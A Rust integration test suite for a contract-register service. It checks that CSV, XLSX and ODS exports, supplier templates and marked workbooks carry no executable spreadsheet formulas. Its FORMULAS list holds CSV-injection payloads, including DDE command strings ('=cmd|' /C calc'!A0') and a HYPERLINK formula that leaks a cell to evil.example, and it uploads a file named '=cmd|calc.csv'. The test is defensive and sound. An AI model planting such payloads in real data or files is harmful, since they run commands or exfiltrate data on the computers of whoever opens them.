//! Files that go out hold no formula that somebody else wrote.

use std::io::Read;

use anyhow::{Context, Result, ensure};
use meetbaar_tests::story::{ADMINISTRATOR, NOORDERLICHT, REVIEWER};
use meetbaar_tests::{Story, on_both};
use serde_json::json;

use crate::world::id;

/// Texts that a spreadsheet program would calculate.
const FORMULAS: [&str; 8] = [
    "=cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "=HYPERLINK(\"http://evil.example?x=\"&A1;\"klik\")",
    "＝1+1",
    " =1+1",
    "'=1+1",
];

/// The parts of a workbook as text.
fn parts(bytes: &[u8]) -> Result<Vec<(String, String)>> {
    let mut package = zip::ZipArchive::new(std::io::Cursor::new(bytes))?;
    let mut parts = Vec::new();
    for number in 0..package.len() {
        let mut part = package.by_index(number)?;
        let mut text = Vec::new();
        part.read_to_end(&mut text)?;
        parts.push((
            part.name()?.into_owned(),
            String::from_utf8_lossy(&text).into_owned(),
        ));
    }
    Ok(parts)
}

fn no_formula(bytes: &[u8], what: &str) -> Result<()> {
    for (name, text) in parts(bytes)? {
        for mark in ["<f>", "<f ", "table:formula", "of:="] {
            ensure!(!text.contains(mark), "{what}: {name} holds {mark}");
        }
        ensure!(
            !text.contains("TargetMode=\"External\""),
            "{what}: {name} leads elsewhere"
        );
    }
    Ok(())
}

/// The fields of a text with semicolons.
fn fields(text: &str) -> Vec<String> {
    let (mut all, mut quoted) = (vec![String::new()], false);
    for sign in text.trim_start_matches('\u{feff}').chars() {
        match sign {
            '"' => quoted = !quoted,
            ';' | '\n' if !quoted => all.push(String::new()),
            '\r' if !quoted => {}
            _ => all
                .iter_mut()
                .last()
                .into_iter()
                .for_each(|field: &mut String| field.push(sign)),
        }
    }
    all
}

on_both! {
    fn no_export_holds_a_formula_of_somebody_else(kind) {
        let story = Story::begin(kind)?;
        let office = story.program(ADMINISTRATOR)?;
        for (number, formula) in FORMULAS.iter().enumerate() {
            let supplier = json!({ "code": format!("kwaad-{number}"), "name": formula });
            office.post("/v1/suppliers", &supplier)?.expect(201)?;
            let contract = office.get("/v1/contracts/ICT-2024-017")?.expect(200)?;
            let mut body = contract.json()?;
            let known = ["awarded", "buyers", "category", "clientSupervision", "end", "framework", "leadingBuyer", "lot", "number", "options", "start", "supplier", "tenderPublished", "title", "valueCents", "value"];
            body.as_object_mut().context("a contract")?.retain(|name, _| known.contains(&name.as_str()));
            body["number"] = json!(format!("KW-{number}"));
            body["supplier"] = json!(format!("kwaad-{number}"));
            body["title"] = json!(formula);
            let made = office.post("/v1/contracts", &body)?;
            ensure!(made.status == 201, "{}", made.body());
        }
        let text = office.get("/v1/register/export?format=csv")?.expect(200)?.body();
        let mut hostile = 0;
        for field in fields(&text) {
            let is_number = field.trim_start_matches('-').chars().all(|sign| sign.is_ascii_digit() || sign == ',');
            let first = field.trim_start_matches([' ', '\u{a0}']).chars().next();
            let begins = first.is_some_and(|first| "=+-@\t\r\n＝＋－＠".contains(first));
            ensure!(!begins || is_number, "a program takes {field:?} for a formula");
            hostile += usize::from(field.starts_with('\''));
        }
        ensure!(hostile >= 2 * FORMULAS.len(), "{hostile} of them are in it:\n{text}");
        for format in ["xlsx", "ods"] {
            let file = office.get(&format!("/v1/register/export?format={format}"))?.expect(200)?;
            no_formula(&file.bytes, format)?;
        }
        let import = office.upload_to("/v1/register/imports", "terug.csv", text.as_bytes(), &[])?.expect(202)?;
        let import = id(&import.json()?)?;
        story.settle()?;
        let told = office.get(&format!("/v1/register/imports/{import}"))?.json()?;
        for part in ["/suppliers/changed", "/contracts/changed"] {
            let changed = told.pointer(part).and_then(|all| all.as_array()).map(Vec::len);
            ensure!(changed == Some(0), "what goes out comes back the same: {told}");
        }
        let supplier = story.program(NOORDERLICHT)?;
        for format in ["xlsx", "ods"] {
            let template = supplier.get(&format!("/v1/contracts/ICT-2024-017/template?period=2026-Q4&format={format}"))?.expect(200)?;
            for (name, text) in parts(&template.bytes)? {
                ensure!(!text.contains("<f>") && !text.contains("table:formula"), "the template: {name}");
            }
        }
    }

    fn no_marked_workbook_holds_a_formula_that_was_a_text(kind) {
        let story = Story::begin(kind)?;
        let (supplier, reviewer) = (story.program(NOORDERLICHT)?, story.program(REVIEWER)?);
        let rows: String = FORMULAS
            .iter()
            .map(|formula| format!("ICT-2024-017;\"{}\";{};01-01-2024;;36;x\r\n", formula.replace('"', "\"\""), formula.replace([';', '"'], "")))
            .collect();
        let file = format!("{};Opmerking =1+1\r\n{rows}", meetbaar_tests::reports::HEADINGS);
        let report = id(&supplier.upload("=cmd|calc.csv", file.as_bytes(), &[("period", "2026-Q3")])?.expect(202)?.json()?)?;
        supplier.read(&report)?;
        for program in [&supplier, &reviewer] {
            let marked = program.get(&format!("/v1/reports/{report}/marked-workbook"))?;
            if marked.status == 200 {
                no_formula(&marked.bytes, "the marked workbook")?;
            } else {
                ensure!(marked.status == 404, "{}", marked.body());
            }
        }
        supplier.get(&format!("/v1/reports/{report}/marked-workbook"))?.expect(200)?;
    }
}
